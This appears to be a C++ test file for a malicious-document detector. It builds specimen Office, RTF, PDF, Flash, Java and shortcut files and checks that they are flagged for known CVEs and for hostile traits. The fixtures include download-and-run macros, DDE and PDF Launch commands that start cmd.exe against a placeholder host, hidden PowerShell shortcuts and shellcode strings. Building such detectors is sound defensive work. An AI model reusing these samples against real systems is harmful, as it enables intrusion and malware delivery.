// Documents of every format, made here from their parts: what they are, lead to and hold; and what becomes of
// them cut, looped, nested and inflated.
#include <gtest/gtest.h>

#include <algorithm>
#include <functional>
#include <set>

#include "triage/archive.h"
#include "triage/documents/builders.h"
#include "triage/documents/document.h"
#include "triage/documents/macros.h"
#include "triage/testing.h"

namespace shikake::triage {
namespace {

using namespace builders;
using namespace std::string_literals;

struct Seen {
  bool is_document = false;
  Document document;
  std::vector<std::string> limits_hit;
  std::vector<std::pair<std::string, std::string>> parts;  // as the sink got them
};

Seen read(std::string_view bytes) {
  Seen seen;
  // Exactly as long as it is: a byte further is a sanitizer's finding.
  const std::vector<uint8_t> exact(bytes.begin(), bytes.end());
  MemberSink sink = [&](const Member& member, std::string content) -> Result<> {
    seen.parts.emplace_back(member.path, std::move(content));
    return {};
  };
  DocumentNotes notes(seen.document, sink);
  if (bytes.starts_with("PK")) {
    ArchiveDocument reading(notes);
    (void)open_archive(exact, {}, [&](const Member& member, std::string content) -> Result<> {
      reading.member(member.path, content);
      return {};
    });
    seen.is_document = reading.finish();
  } else {
    seen.is_document = read_document(exact, notes);
  }
  seen.limits_hit = notes.limits_hit();
  return seen;
}

std::string value(const Seen& seen, std::string_view name) {
  for (const DocumentProperty& one : seen.document.properties)
    if (one.name == name) return one.value;
  return "(none)";
}

const std::string url = "http://files.example/specimen.exe";

struct Row {
  const char* name;
  std::string bytes;
  std::string format;
  std::set<std::string> traits;      // "name" or "name CVE"; "!" in front: it convicts. All that there are
  std::set<std::string> links = {};  // "target how", with "!" in front where it opens. All that there are
  std::set<std::string> parts = {};  // names. All that there are
};

Files office(Files more) {
  more.insert(more.begin(), {"[Content_Types].xml", "<Types/>"});
  return more;
}
std::string relationship(const std::string& kind, const std::string& target) {
  return "<Relationships><Relationship Id='r1' "
         "Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/" +
         kind + "' Target=\"" + target + "\" TargetMode='External'/></Relationships>";
}
std::string action(const std::string& what) {
  return pdf({"<< /Type /Catalog /OpenAction << " + what + " >> >>"});
}
std::string script(const std::string& source) {
  return action("/S /JavaScript /JS <" + hex(source) + ">");
}
std::string ole_object(const std::string& class_name, const std::string& bytes) {
  return le(0x501, 4) + le(2, 4) + le(class_name.size() + 1, 4) + class_name + '\0' + le(0, 8) +
         le(bytes.size(), 4) + bytes;
}
std::string equation(size_t name) {
  return std::string(33, '\0') + "\x0A\x01\x08\x01\x01" + std::string(name, 'A') + '\0';
}
std::string package(const std::string& name, const std::string& bytes) {
  return le(0, 4) + le(2, 2) + name + '\0' + "C:\\" + name + '\0' + le(0, 4) + le(name.size() + 1, 4) + name +
         '\0' + le(bytes.size(), 4) + bytes;
}
const std::string macro = "Sub AutoOpen()\n Set h = CreateObject(\"MSXML2.XMLHTTP\")\n h.Open \"GET\", \"" +
                          url + "\"\n Shell \"specimen.exe\"\nEnd Sub\n";

const Row rows[] = {
    // shortcuts
    {"shortcut", shortcut({.target = "C:\\Windows\\notepad.exe", .arguments = "a.txt"}), "Windows shortcut", {}},
    {"shortcut_ansi", shortcut({.target = "C:\\x.exe", .arguments = "a.txt", .unicode = false}), "Windows shortcut", {}},
    {"shortcut_command",
     shortcut({.target = "C:\\Windows\\System32\\mshta.exe", .arguments = std::string(120, ' ') + url, .show = 7}),
     "Windows shortcut",
     {"!command", "minimised", "padded arguments", "script host"},
     {"!" + url + " shortcut's command"}},
    {"shortcut_by_variable",
     shortcut({.arguments = "-w hidden -enc QQ==", .environment_target = "%COMSPEC%\\powershell.exe"}),
     "Windows shortcut",
     {"!command", "script host"}},
    {"shortcut_remote_icon",
     shortcut({.target = "C:\\a.exe", .icon = "\\\\files.example\\i\\a.ico"}),
     "Windows shortcut",
     {"remote icon"},
     {"!\\\\files.example\\i\\a.ico icon"}},
    {"shortcut_control_panel",
     shortcut({.id_list = le(20, 2) + "\x1F\x70\x20\x20\xEC\x21\xEA\x3A\x69\x10\xA2\xDD\x08\x00\x2B\x30\x30\x9D"s + le(0, 2)}),
     "Windows shortcut",
     {"!control panel item CVE-2010-2568"}},
    // Flash
    {"film", film('F', tag(77, "about\0"s)), "Flash 9", {}},
    {"film_zlib_texts",
     film('C', action_script_3({"flash.net", "URLLoader", url, "loadBytes"})),
     "Flash 9, zlib",
     {"fetches", "loads a film from bytes"},
     {url + " ActionScript text"}},
    {"film_get_url",
     film('F', tag(12, "\x83"s + le(url.size() + 2, 2) + url + "\0\0"s + '\0'), 8),
     "Flash 8",
     {"sends the browser elsewhere"},
     {"!" + url + " getURL"}},
    {"film_constant_pool",
     film('F', tag(12, "\x88"s + le(url.size() + 3, 2) + le(1, 2) + url + "\0\0"s), 8),
     "Flash 8",
     {},
     {url + " ActionScript text"}},
    {"film_binary_data", film('C', tag(87, le(7, 2) + le(0, 4) + "MZ specimen")), "Flash 9, zlib", {}, {}, {"binary-data-7"}},
    {"film_scenes", film('F', tag(86, "\xFF\xFF\xFF\xFF\x0F"s)), "Flash 9", {"!scene count CVE-2007-0071"}},
    {"film_few_scenes", film('F', tag(86, "\x01\x00Scene\0"s)), "Flash 9", {}},
    {"film_imports", film('F', tag(57, url + "\0\0\0"s)), "Flash 9", {}, {"!" + url + " imported film"}},
    // Java
    {"jar",
     zip({{"META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nMain-Class: a.Very\r\n Long.Name\r\n\r\nName: x\r\nMain-Class: no\r\n"},
          {"a/Very.class", java_class("a/Very", "java/lang/Object", {"hello"})}}),
     "Java archive",
     {}},
    {"jar_applet",
     zip({{"META-INF/MANIFEST.MF", "Permissions: all-permissions\n"},
          {"A.class", java_class("A", "java/applet/Applet", {url, "openStream", "java/lang/Runtime"})}}),
     "Java archive",
     {"applet", "fetches", "may start programs"},
     {url + " text of a class"}},
    {"jar_attack_over_two_classes",
     zip({{"A.class", java_class("A", "java/applet/Applet", {"sun.awt.SunToolkit", "getField"})},
          {"B.class", java_class("B", "java/lang/Object", {"java/beans/Statement"})}}),
     "Java archive",
     {"!internal field access CVE-2012-4681", "applet"}},
    {"jar_half_an_attack",
     zip({{"A.class", java_class("A", "java/lang/Object", {"sun.awt.SunToolkit", "getField"})}}),
     "Java archive",
     {}},
    {"class_alone", java_class("A", "java/lang/Object", {"defineClass"}), "Java class, version 50", {"makes classes from bytes"}},
    // old Office
    {"word_macro",
     [] {
       auto streams = macros("Macros/VBA/", macro);
       streams.push_back({"WordDocument", "text"});
       return compound(streams);
     }(),
     "Word 97-2003",
     {"!dropper", "downloads", "macros", "makes components", "runs by itself", "starts programs"},
     {"!" + url + " macro"}},
    {"innocent_macro",
     compound(macros("_VBA_PROJECT_CUR/VBA/", "Sub Total()\n x = Shelly + 1\nEnd Sub\n")),
     "OLE compound file",
     {"macros"}},
    {"word_dde", compound({{"WordDocument", "\x13 DDEAUTO c:\\windows\\cmd.exe \"/k start " + url + "\" \x14\x15"}}),
     "Word 97-2003",
     {"!command", "DDE field", "script host"},
     {"!" + url + " DDE field"}},
    {"word_link", compound({{"WordDocument", "\x13 HYPERLINK \"" + url + "\" \x14go\x15"}}), "Word 97-2003", {}, {url + " hyperlink"}},
    {"excel_4",
     compound({{"Workbook", le(0x809, 2) + le(4, 2) + le(0, 4) + le(0x85, 2) + le(10, 2) + le(0, 4) + "\x02\x01\x02\x00MS"s +
                                le(0x18, 2) + le(16, 2) + le(0x20, 2) + std::string(13, '\0') + '\x01'}}),
     "Excel 97-2003",
     {"hidden Excel 4 macros", "runs by itself"}},
    {"package", compound({{"ObjectPool/\x01Ole10Native", package("specimen.exe", "MZ specimen")}}), "OLE compound file", {}, {}, {"specimen.exe"}},
    {"equation",
     compound({{"ObjectPool/Equation Native", equation(60), "\x02\xCE\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46"s}}),
     "OLE compound file",
     {"!overlong font name CVE-2017-11882", "equation object"}},
    {"innocent_equation", compound({{"Equation Native", equation(12)}}), "OLE compound file", {"equation object"}},
    // Office Open XML
    {"docx", zip(office({{"word/document.xml", "<w:document><w:t>text</w:t></w:document>"}})), "Office Open XML", {}},
    {"docx_template",
     zip(office({{"word/_rels/settings.xml.rels", relationship("attachedTemplate", url + "?a=1&amp;b=2")}})),
     "Office Open XML",
     {"remote template"},
     {"!" + url + "?a=1&b=2 attachedTemplate"}},
    {"docx_hyperlink", zip(office({{"word/_rels/document.xml.rels", relationship("hyperlink", url)}})), "Office Open XML", {}, {url + " hyperlink"}},
    {"docx_object_page",
     zip(office({{"word/_rels/document.xml.rels", relationship("oleObject", "mhtml:" + url + "!x-usc:" + url)}})),
     "Office Open XML",
     {"!page in an object CVE-2021-40444"},
     {"!mhtml:" + url + "!x-usc:" + url + " oleObject"}},
    {"docx_dde_in_pieces",
     zip(office({{"word/document.xml",
                  "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>"
                  "<w:r><w:instrText xml:space=\"preserve\">AUTO cmd.exe &quot;/c start " + url +
                      "&quot;</w:instrText></w:r><w:fldChar w:fldCharType=\"end\"/>"}})),
     "Office Open XML",
     {"!command", "DDE field", "script host"},
     {"!" + url + " DDE field"}},
    {"docm",
     zip(office({{"word/vbaProject.bin", compound(macros("VBA/", macro))}})),
     "Office Open XML",
     {"!dropper", "downloads", "macros", "makes components", "runs by itself", "starts programs"},
     {"!" + url + " macro"}},
    {"xlsm_4", zip(office({{"xl/macrosheets/sheet1.xml", "<f>=EXEC(\"" + url + "\")</f>"}})), "Office Open XML", {"Excel 4 macros"}, {url + " Excel 4 macro"}},
    // RTF
    {"rtf", "{\\rtf1\\ansi text \\'e4 {\\b bold}}", "RTF", {}},
    {"rtf_equation",
     "{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata " + hex(ole_object("Equation.3", equation(100))) + "}}}",
     "RTF",
     {"!overlong font name CVE-2017-11882", "equation object", "object that opens by itself"},
     {},
     {"Equation.3"}},
    {"rtf_control",
     "{\\rt{\\object{\\*\\objdata\n" + hex(ole_object("MSComctlLib.ListViewCtrl.2", "Cobj" + le(0x64, 4) + le(0x8282, 4))) + "}}}",
     "RTF",
     {"!overlong control data CVE-2012-0158"},
     {},
     {"MSComctlLib.ListViewCtrl.2"}},
    {"rtf_shape",
     "{\\rtf1{\\shp{\\sp{\\sn pFragments}{\\sv 1;1;" + std::string(200, '4') + "}}}}",
     "RTF",
     {"!overlong shape property CVE-2010-3333"}},
    {"rtf_innocent_shape", "{\\rtf1{\\shp{\\sp{\\sn pFragments}{\\sv 1;8;0123456789ABCDEF}}}}", "RTF", {}},
    {"rtf_template", "{\\rtf1{\\*\\template " + url + "}}", "RTF", {"remote template"}, {"!" + url + " template"}},
    {"rtf_field", "{\\rtf1{\\field{\\*\\fldinst{HYPERLINK \"" + url + "\"}}{\\fldrslt go}}}", "RTF", {}, {url + " hyperlink"}},
    {"rtf_moniker",
     "{\\rtf1{\\object{\\*\\objdata " +
         hex(ole_object("OLE2Link", "\xE0\xC9\xEA\x79\xF9\xBA\xCE\x11\x8C\x82\x00\xAA\x00\x4B\xA9\x0B"s + le(80, 4) + utf16(url) + le(0, 2))) +
         "}}}",
     "RTF",
     {"URL moniker CVE-2017-0199"},
     {"!" + url + " URL moniker"},
     {"OLE2Link"}},
    // PDF
    {"pdf", pdf({"<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"}), "PDF 1.7", {}},
    {"pdf_uri",
     pdf({"<< /Type /Catalog >>", "<< /Type /Annot /A << /S /URI /URI (" + url + ") >> >>"}),
     "PDF 1.7",
     {},
     {url + " URI action"}},
    {"pdf_opens_uri", action("/S /URI /URI (" + url + ")"), "PDF 1.7", {"acts when opened"}, {"!" + url + " URI action"}},
    {"pdf_launch",
     action("/S /Launch /Win << /F (cmd.exe) /P (/c start " + url + ") >>"),
     "PDF 1.7",
     {"!command", "!starts a program CVE-2010-1240", "acts when opened", "script host"},
     {"!" + url + " Launch action"}},
    {"pdf_email", script("Collab.collectEmailInfo({msg: big});"), "PDF 1.7", {"!vulnerable call CVE-2007-5659", "JavaScript", "acts when opened"}},
    {"pdf_player", script("media.newPlayer(null)"), "PDF 1.7", {"!vulnerable call CVE-2009-4324", "JavaScript", "acts when opened"}},
    {"pdf_printf", script("util.printf('%45000f', n)"), "PDF 1.7", {"!vulnerable call CVE-2008-2992", "JavaScript", "acts when opened"}},
    {"pdf_innocent_printf", script("util.printf('%.2f%10.2f%8.123f', n)"), "PDF 1.7", {"JavaScript", "acts when opened"}},
    {"pdf_icon", script("Collab.getIcon(a)"), "PDF 1.7", {"JavaScript", "acts when opened", "vulnerable call CVE-2009-0927"}},
    {"pdf_script_in_stream",
     pdf({"<< /Type /Catalog /Names << /JavaScript << /Names [(a) 2 0 R] >> >> >>", "<< /S /#4AavaScript /JS 3 0 R >>",
          pdf_stream("", "app.launchURL('" + url + "')")}),
     "PDF 1.7",
     {"JavaScript", "calls launchURL"},
     {url + " script"}},
    {"pdf_embedded",
     pdf({"<< /Type /Catalog >>", "<< /Type /Filespec /F (specimen.exe) /EF << /F 3 0 R >> >>", pdf_stream("", "MZ specimen")}),
     "PDF 1.7",
     {"embedded file"},
     {},
     {"specimen.exe"}},
    {"pdf_streams",
     pdf({"<< /Type /Catalog >>", pdf_stream("/Filter /JBIG2Decode", "x"), pdf_stream("/Type /3D /Subtype /U3D", "U3D")}),
     "PDF 1.7",
     {"3D stream", "JBIG2 stream"}},
    {"pdf_font",
     pdf({"<< /Type /Catalog >>",
          pdf_stream("/Length1 100", be(0x10000, 4) + be(1, 2) + be(0, 6) + "SING" + be(0, 4) + be(28, 4) + be(100, 4) +
                                         std::string(16, '\0') + std::string(60, 'A') + '\0')}),
     "PDF 1.7",
     {"!overlong font name CVE-2010-2883"}},
    {"pdf_behind_rubbish", std::string(500, 'x') + action("/S /URI /URI (" + url + ")"), "PDF 1.7", {"acts when opened"}, {"!" + url + " URI action"}},
};

class Documents : public ::testing::TestWithParam<Row> {};
INSTANTIATE_TEST_SUITE_P(All, Documents, ::testing::ValuesIn(rows),
                         [](const auto& row) { return std::string(row.param.name); });

TEST_P(Documents, AreTakenApart) {
  const Row& row = GetParam();
  const Seen seen = read(row.bytes);
  EXPECT_TRUE(seen.is_document);
  EXPECT_EQ(seen.document.format, row.format);
  std::set<std::string> traits, links, parts;
  for (const DocumentTrait& one : seen.document.traits) {
    traits.insert((one.convicts ? "!" : "") + one.name + (one.cve.empty() ? "" : " " + one.cve));
    // Each vulnerability is named with the advisory that says so.
    EXPECT_EQ(one.cve.empty(), one.source.empty()) << one.name;
  }
  for (const DocumentLink& one : seen.document.links)
    links.insert((one.opens ? "!" : "") + one.target + " " + one.how);
  for (const auto& [name, bytes] : seen.parts) parts.insert(name);
  EXPECT_EQ(traits, row.traits);
  EXPECT_EQ(links, row.links);
  EXPECT_EQ(parts, row.parts);
  EXPECT_EQ(seen.document.parts.size(), seen.parts.size());
  EXPECT_EQ(seen.limits_hit, std::vector<std::string>());
}

// Of a large one at some places only, of others at every byte.
TEST_P(Documents, CutAnywhereAreStillRead) {
  const std::string& bytes = GetParam().bytes;
  const size_t step = std::max<size_t>(1, bytes.size() / 300);
  for (size_t size = 0; size < bytes.size(); size += size < 64 ? 1 : step)
    (void)read(std::string_view(bytes).substr(0, size));
}

TEST_P(Documents, WithAnyByteChangedAreStillRead) {
  std::string bytes = GetParam().bytes;
  const size_t step = std::max<size_t>(1, bytes.size() / 100);
  for (size_t at = 0; at < bytes.size(); at += step)
    for (char other : {'\0', '\xFF', '\x01'}) {
      const char before = std::exchange(bytes[at], other);
      (void)read(bytes);
      bytes[at] = before;
    }
}

TEST(Document, PropertiesAreThoseOfTheParts) {
  EXPECT_EQ(value(read(shortcut({.target = "C:\\a.exe", .arguments = "b c"})), "target"), "C:\\a.exe");
  EXPECT_EQ(value(read(shortcut({.target = "C:\\a.exe", .arguments = "b c"})), "arguments"), "b c");
  const Seen jar = read(rows[static_cast<size_t>(std::ranges::find(rows, "jar"s, &Row::name) - rows)].bytes);
  EXPECT_EQ(value(jar, "Main-Class"), "a.VeryLong.Name");
  EXPECT_EQ(value(jar, "classes"), "1");
}

TEST(Document, MacrosAreUnpackedWithCopiesToo) {
  // "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa" of [MS-OVBA] 3.2.1.
  const std::string sample =
      "\x01\x2F\xB0\x00\x23\x61\x61\x61\x62\x63\x64\x65\x82\x66\x00\x70\x61\x67\x68\x69\x6A\x01\x38\x08\x61"
      "\x6B\x6C\x00\x30\x6D"
      "\x6E\x6F\x70\x06\x71\x02\x70\x04\x10\x72\x73\x74\x75\x76\x10\x77\x78\x79\x7A\x00\x3C"s;
  EXPECT_EQ(unpack_macros(base::as_bytes(sample)),
            "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa");
  EXPECT_EQ(unpack_macros(base::as_bytes("no macros"s)), std::nullopt);
  const std::string long_text(100'000, 'x');
  EXPECT_EQ(unpack_macros(base::as_bytes(packed(long_text))), long_text);
}

TEST(Document, ScriptsGiveTheMachineCodeInThem) {
  std::string text;
  for (int i = 0; i < 30; ++i) text += "%u9090";
  const Seen seen = read(script("var s = unescape('" + text + "' +\n '%u00e8%u0000%u5e00%u9090');"));
  ASSERT_EQ(seen.document.code.size(), 1u);
  EXPECT_TRUE(seen.document.code[0].ends_with("\xE8\x00\x00\x00\x00\x5E\x90\x90"s));
}

// --- hostile ones

TEST(HostileDocument, ChainsOfSectorsThatGoRoundEnd) {
  std::string bytes = compound({{"WordDocument", std::string(5000, 'x')}});
  for (size_t sector = 1; sector < 12; ++sector) bytes.replace(512 + 4 * sector, 4, le(sector, 4));
  (void)read(bytes);
  bytes.replace(0x44, 4, le(1, 4));  // and the table's own
  bytes.replace(0x48, 4, le(0xFFFFFF, 4));
  (void)read(bytes);
}

TEST(HostileDocument, DirectoriesThatGoRoundEnd) {
  std::string bytes = compound({{"a/b", "x"}, {"a/c", "y"}});
  const size_t root = bytes.find(utf16("Root Entry"));
  ASSERT_NE(root, std::string::npos);
  for (size_t entry = 0; entry < 4; ++entry)
    for (size_t field : {0x44, 0x48, 0x4C}) bytes.replace(root + 128 * entry + field, 4, le(0, 4));
  const Seen seen = read(bytes);
  EXPECT_FALSE(seen.document.malformed.empty());
}

TEST(HostileDocument, RichTextOfAnyDepthIsRead) {
  const Seen seen =
      read("{\\rtf1" + std::string(1'000'000, '{') + "\\objupdate" + std::string(2'000'000, '}'));
  EXPECT_EQ(seen.document.format, "RTF");
}

// In the order in which a viewer runs them, each once; and what they can ask the document for.
TEST(Pdf, ScriptsComeInOrderWithTheTextsThatTheyCanRead) {
  const Seen seen = read(pdf(
      {"<< /Type /Catalog /Pages 6 0 R /OpenAction 2 0 R /AcroForm << /Fields [8 0 R] /XFA 10 0 R >> /Names "
       "<< /JavaScript "
       "<< /Kids [<< /Names [(a) 3 0 R (b) << /JS (second\\(\\)) >>] >>] >> >> >>",
       "<< /S /JavaScript /JS 4 0 R >>", "<< /JS (first\\(\\)) >>",
       pdf_stream("", "\xFE\xFF\0t\0h\0i\0r\0d\x04\x10"s), pdf_stream("", "hidden in a stream"),
       "<< /Type /Pages /Kids [7 0 R] /Count 1 >>",
       "<< /Type /Page /Parent 6 0 R /Annots [<< /NM (n) /Subj 5 0 R /Contents (c) >>] >>",
       "<< /T (top) /Kids [9 0 R] >>",
       "<< /FT /Tx /T (x) /Parent 8 0 R /V (value) /TU (tip) /AA << /K << /JS (fourth\\(\\)) >> >> >>",
       pdf_stream("",
                  "<subform><field name=\"f\"><value><text>a&lt;b</text></value></field><field "
                  "name=\"g\"/><event><script "
                  "contentType=\"application/x-javascript\"><![CDATA[if (1<2)]]> x(&quot;y&quot;)</script>"
                  "<script contentType=\"application/x-formcalc\">no</script></event></subform>")}));
  std::vector<std::string> scripts, fields;
  for (const DocumentScript& one : seen.document.scripts)
    if (one.language == "JavaScript") scripts.push_back(one.where + ": " + one.text);
  EXPECT_EQ(scripts,
            (std::vector<std::string>{"document: first()", "document: second()", "open action: third\u0410",
                                      "XFA form: if (1<2) x(\"y\")", ": fourth()"}));
  for (const DocumentField& one : seen.document.fields)
    fields.push_back(one.kind + " " + one.name + "=" + one.value + "|" + one.subject);
  EXPECT_EQ(fields, (std::vector<std::string>{"field top=|", "field top.x=value|tip",
                                              "annotation n=c|hidden in a stream", "form f=a<b|"}));
  EXPECT_EQ(value(seen, "pages"), "1");
  EXPECT_EQ(seen.limits_hit, std::vector<std::string>());
}

TEST(HostileDocument, PdfTextsForScriptsAreBounded) {
  const std::string big(max_field_bytes / 2, 'x');
  std::vector<std::string> objects = {"<< /Type /Catalog /AcroForm << /Fields ["};
  for (int i = 0; i < 20; ++i) objects[0] += std::to_string(i + 2) + " 0 R ";
  objects[0] += "] >> >>";
  for (int i = 0; i < 20; ++i)
    objects.push_back("<< /FT /Tx /T (f) /V (" + big + ") /JS (" + big + std::to_string(i) + ") >>");
  const Seen seen = read(pdf(objects));
  size_t bytes = 0;
  for (const DocumentField& one : seen.document.fields) bytes += one.value.size();
  EXPECT_LE(bytes, max_fields_bytes);
  EXPECT_GE(bytes, max_fields_bytes - max_field_bytes);
  bytes = 0;
  for (const DocumentScript& one : seen.document.scripts) bytes += one.text.size();
  EXPECT_LE(bytes, max_scripts_bytes);
  EXPECT_EQ(seen.limits_hit, (std::vector<std::string>{"document: fields", "document: scripts"}));
}

TEST(HostileDocument, PdfObjectsThatHoldThemselvesEnd) {
  (void)read(pdf({"<< /Type /Catalog /Names << /JavaScript 2 0 R >> /AcroForm << /Fields [3 0 R] >> >>",
                  "<< /Kids [2 0 R] >>", "<< /T (a) /Kids [3 0 R] /Parent 3 0 R >>"}));
  (void)read(
      pdf({"<< /Type /Catalog /OpenAction 2 0 R /Names 1 0 R >>", "<< /S /URI /URI (x) /Next 2 0 R >>"}));
  (void)read(pdf({"<< /Type /Catalog /AA 1 0 R >>", pdf_stream("/Filter /FlateDecode /Length 2 0 R", "x")}));
  std::string deep = "<< /Type /Catalog /A ";
  for (int i = 0; i < 10'000; ++i) deep += "[";
  (void)read(pdf({deep}));
}

TEST(HostileDocument, BombsAreCutShort) {
  std::string zeros(size_t{80} << 20, '\0'), deflated(zeros.size() / 500, '\0');
  uLongf size = deflated.size();
  ASSERT_EQ(compress(reinterpret_cast<Bytef*>(deflated.data()), &size,
                     reinterpret_cast<const Bytef*>(zeros.data()), zeros.size()),
            Z_OK);
  deflated.resize(size);
  const Seen in_pdf = read(pdf({"<< /Type /Catalog >>", "<< /S /JavaScript /JS 3 0 R >>",
                                pdf_stream("/Filter /FlateDecode", deflated)}));
  EXPECT_FALSE(in_pdf.limits_hit.empty());
  const Seen in_film = read("CWS\x09"s + le(1u << 27, 4) + deflated);
  EXPECT_FALSE(in_film.limits_hit.empty());
}

TEST(HostileDocument, ListsAreBounded) {
  std::string links = "{\\rtf1";
  for (int i = 0; i < 1000; ++i) links += "{\\*\\template http://h" + std::to_string(i) + ".example/}";
  const Seen seen = read(links + "}");
  EXPECT_EQ(seen.document.links.size(), max_found);
  EXPECT_EQ(seen.limits_hit, std::vector<std::string>{"document: links"});
  Files classes;
  for (int i = 0; i < 900; ++i)
    classes.emplace_back(std::to_string(i) + ".class", java_class("C" + std::to_string(i), "P", {}));
  EXPECT_EQ(read(zip(classes)).document.properties.size(), max_found);
}

TEST(HostileDocument, WhatIsNoneIsNone) {
  for (const std::string& bytes : {""s, "F"s, "FWS"s, "FWS like text, long enough for a header"s, "{\\r"s,
                                   "\xCA\xFE\xBA\xBE\0\0\0\x02\0\0\0\0"s, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"s,
                                   std::string(2000, ' ') + "%PDF-1.4", le(0x4C, 4) + std::string(100, 'x'),
                                   zip({{"readme.txt", "plain"}})})
    EXPECT_FALSE(read(bytes).is_document) << bytes.substr(0, 10);
}

// --- through the worker

TEST(DocumentTriage, FactsComeFromTheWorker) {
  TemporaryFolder folder;
  std::vector<std::string> names;
  Options options;
  options.on_member = [&](const Member& member, const std::string& bytes) -> Result<> {
    names.push_back(member.path + " " + bytes.substr(0, 2));
    return {};
  };
  auto pdf_facts = triage_file(
      folder.write(
          "a.pdf",
          pdf({"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (media.newPlayer\\(null\\)) >> >>",
               "<< /F (specimen.exe) /EF << /F 3 0 R >> >>", pdf_stream("", "MZ")})),
      options);
  ASSERT_TRUE(pdf_facts) << pdf_facts.error().message();
  EXPECT_EQ(pdf_facts->kind, FileKind::document);
  ASSERT_TRUE(pdf_facts->document);
  EXPECT_EQ(pdf_facts->document->scripts.size(), 1u);
  EXPECT_TRUE(pdf_facts->complete);
  EXPECT_EQ(names, std::vector<std::string>{"specimen.exe MZ"});
  auto jar = triage_file(folder.write("a.jar", zip({{"META-INF/MANIFEST.MF", "Main-Class: A\n"},
                                                    {"A.class", java_class("A", "B", {})}})),
                         {});
  ASSERT_TRUE(jar && jar->document && jar->archive);
  EXPECT_EQ(jar->document->format, "Java archive");
  for (const auto& [name, bytes] : {std::pair{"a.lnk"s, shortcut({.target = "C:\\a.exe"})},
                                    {"a.swf"s, film('C', "")},
                                    {"a.doc"s, compound({{"WordDocument", "x"}})},
                                    {"a.rtf"s, "{\\rtf1 x}"s}}) {
    auto facts = triage_file(folder.write(name, bytes), {});
    ASSERT_TRUE(facts) << facts.error().message();
    EXPECT_TRUE(facts->document) << name << " " << facts->mime;
  }
}

}  // namespace
}  // namespace shikake::triage
